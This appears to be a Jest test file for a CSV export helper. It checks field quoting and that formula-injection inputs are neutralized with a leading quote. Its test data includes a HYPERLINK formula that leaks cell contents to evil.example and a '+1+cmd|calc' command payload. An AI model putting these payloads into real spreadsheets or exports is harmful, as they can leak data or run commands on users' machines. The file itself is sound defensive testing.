import { csvField, csvRecord } from './csv';

describe('csv', () => {
  it('leaves plain fields alone and quotes commas, quotes and line breaks', () => {
    expect(csvField('aura-2-thalia-en')).toBe('aura-2-thalia-en');
    expect(csvField(16000)).toBe('16000');
    expect(csvField(null)).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('x\rhere')).toBe('"x\rhere"');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1,2', `"'=1,2"`],
  ])('neutralizes the formula %j with a leading quote', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('leaves numbers, plain numeric text and formula characters inside a field alone', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField('-1.25')).toBe('-1.25');
    expect(csvField('0.016666666666666667')).toBe('0.016666666666666667');
    expect(csvField('user=1')).toBe('user=1');
    expect(csvField('a-b@c')).toBe('a-b@c');
  });

  it('joins a record with commas and ends it with CRLF', () => {
    expect(csvRecord(['a', 'b,c', 3])).toBe('a,"b,c",3\r\n');
    expect(csvRecord(['e:1', '=cmd', '@s'])).toBe("e:1,'=cmd,'@s\r\n");
  });
});
